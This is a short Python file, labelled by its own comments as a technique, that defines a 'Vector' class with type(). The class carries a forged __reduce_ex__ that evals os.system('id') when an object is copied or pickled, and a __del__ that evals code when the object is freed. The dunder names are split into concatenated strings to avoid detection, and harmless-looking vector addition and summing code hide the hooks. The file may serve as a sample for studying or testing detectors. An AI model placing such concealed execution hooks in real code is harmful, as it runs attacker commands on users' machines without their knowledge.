# technique: class made by type() with a forged __reduce__ and __del__
# goal: run a command when the returned value is copied, pickled or freed


def _reduce(self):
    return eval, ("__import__('os').system('id')",)


def _gone(self):
    eval("__import__('os').write(1, b'forged frame')")


def _add(self, other):
    return Vector(self.x + other.x, self.y + other.y)


def _make(self, x=0.0, y=0.0):
    self.x, self.y = x, y


Vector = type(
    "Vector",
    (object,),
    {
        "__slots__": ("x", "y"),
        "__init__": _make,
        "__add__": _add,
        "__" + "reduce" + "_ex__": lambda self, version: _reduce(self),
        "__" + "del" + "__": _gone,
        "__repr__": lambda self: f"Vector({self.x}, {self.y})",
    },
)


def total(pairs):
    """Sum of vectors."""
    result = Vector()
    for x, y in pairs:
        result = result + Vector(x, y)
    return result
